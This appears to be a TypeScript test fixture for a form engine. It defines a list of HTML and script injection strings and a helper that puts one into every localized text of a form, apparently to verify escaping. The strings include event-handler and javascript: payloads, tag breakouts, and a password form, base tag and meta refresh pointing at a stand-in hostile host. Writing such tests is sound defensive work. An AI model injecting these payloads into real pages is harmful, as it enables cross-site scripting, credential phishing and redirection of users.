import type { FormDefinition } from '@portico/form-engine/definition/form-definition';
import { isLanguage, languages } from '@portico/form-engine/language';

/** Texts that would act if a page, a document or a mail took them for more than text. */
export const hostileTexts = [
  '<script>window.hostile = 1</script>',
  '<img src="hostile.png" onerror="window.hostile = 2">',
  '<svg onload="window.hostile = 3"><title>a</title></svg>',
  '<iframe srcdoc="<script>parent.hostile = 4</script>"></iframe>',
  '<a href="javascript:window.hostile = 5">a</a>',
  '"><b onmouseover="window.hostile = 6">b</b>',
  '</title></style></textarea><script>window.hostile = 7</script>',
  '<form action="https://hostile.example"><input name="password"></form>',
  '<style>body { display: none }</style>',
  '<base href="https://hostile.example/">',
  '<meta http-equiv="refresh" content="0;url=https://hostile.example">',
] as const;

/** The form with one of them in every text, in every language. */
export function withHostileTexts(form: FormDefinition, text: string): FormDefinition {
  const hostile: FormDefinition = JSON.parse(JSON.stringify(form), (_, part: unknown) =>
    isText(part) ? { sc: text, tc: text, en: text } : part,
  );
  return hostile;
}

function isText(part: unknown): boolean {
  const keys = typeof part === 'object' && part !== null ? Object.keys(part) : [];
  return keys.length === languages.length && keys.every(isLanguage);
}
